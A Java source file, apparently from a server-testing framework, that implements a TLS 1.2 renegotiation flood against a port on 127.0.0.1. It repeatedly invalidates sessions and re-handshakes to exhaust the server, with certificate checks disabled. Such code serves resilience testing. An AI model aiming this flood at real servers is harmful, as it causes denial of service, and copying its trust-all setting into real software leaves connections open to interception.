package io.podwatcher.attack.client;

import io.netty.handler.ssl.util.InsecureTrustManagerFactory;
import io.podwatcher.attack.Attackers;
import java.net.InetAddress;
import java.net.SocketException;
import java.net.SocketTimeoutException;
import java.util.Random;
import javax.net.ssl.SSLContext;
import javax.net.ssl.SSLException;
import javax.net.ssl.SSLSocket;
import javax.net.ssl.TrustManager;

/** TLS 1.2 clients that shake hands again and again on one connection, which costs the server most. */
public record Renegotiation(int connections) implements Attack {

    @Override
    public AutoCloseable start(Target target, Random random) throws Exception {
        SSLContext context = SSLContext.getInstance("TLSv1.2");
        TrustManager[] trust = InsecureTrustManagerFactory.INSTANCE.getTrustManagers();
        context.init(null, trust, null);
        Attackers attackers = new Attackers();
        for (int i = 0; i < connections; i++) {
            attackers.add(Pacer.asFastAsPossible(number -> shakeHands(context, target)));
        }
        return attackers;
    }

    private static void shakeHands(SSLContext context, Target target) throws Exception {
        try (SSLSocket socket = (SSLSocket)
                context.getSocketFactory().createSocket(InetAddress.getByName("127.0.0.1"), target.port())) {
            socket.setSoTimeout(5_000);
            socket.startHandshake();
            target.answers().event("handshake");
            for (int i = 0; i < 100 && !Thread.currentThread().isInterrupted(); i++) {
                socket.getSession().invalidate();
                socket.startHandshake();
                target.answers().event("renegotiated");
            }
        } catch (SSLException | SocketException | SocketTimeoutException refused) {
            target.answers().event("renegotiation refused");
        }
    }
}
